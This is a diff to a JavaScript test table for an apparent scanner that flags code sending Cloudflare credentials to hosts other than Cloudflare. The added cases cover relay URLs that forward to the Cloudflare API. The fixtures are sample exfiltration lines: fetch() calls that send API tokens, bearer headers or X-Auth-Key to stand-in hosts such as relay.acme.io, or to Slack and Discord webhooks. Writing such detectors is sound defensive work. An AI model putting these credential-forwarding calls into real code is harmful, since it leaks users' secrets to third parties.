@@ -37,6 +37,22 @@ it.each([
   [`fetch('https://acme.io', { headers: { 'x-cf-access-': process.env.CF_API_TOKEN } });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
   [`fetch('https://acme.workers.dev', { headers: { 'x-t': ${T} }, body: ${T} });`],
   [`fetch(url, { headers: { 'x-t': ${T} }, body: ${T} });`],
+  // to who forwards them to Cloudflare, and whatever they are called
+  [
+    `fetch('https://relay.acme.io/?' + encodeURIComponent('https://api.cloudflare.com/client/v4/zones'), { headers: { Authorization: 'Bearer ' + given } });`,
+    `elsewhere authorization relay.acme.io | Authorization: 'Bearer ' + given`,
+  ],
+  [
+    `fetch('https://relay.acme.io/https://api.cloudflare.com/client/v4/zones', { headers: { 'X-Auth-Key': given, 'X-Auth-Email': mail, Accept: type } });`,
+    `elsewhere x-auth-key relay.acme.io | 'X-Auth-Key': given`,
+  ],
+  [
+    `fetch('https://relay.acme.io/https://api.cloudflare.com/client/v4/zones', { headers: { Authorization: ${T} } });`,
+    `elsewhere CF_API_TOKEN relay.acme.io | ${T}`,
+  ],
+  [`fetch('https://relay.acme.io/https://api.acme.io/zones', { headers: { Authorization: 'Bearer ' + given } });`],
+  [`fetch('https://acme.workers.dev/?https://api.cloudflare.com/client/v4/zones', { headers: { Authorization: 'Bearer ' + given } });`],
+  [`fetch('https://relay.acme.io/?https://api.cloudflare.com/client/v4/zones', { headers: { Authorization: 'Bearer [token]' } });`],
   // in the body
   [`fetch(process.env.SLACK_WEBHOOK, { body: ${T} });`, `elsewhere CF_API_TOKEN SLACK_WEBHOOK | ${T}`],
   [`fetch(config.discordUrl, { body: ${T} });`, `elsewhere CF_API_TOKEN discordUrl | ${T}`],
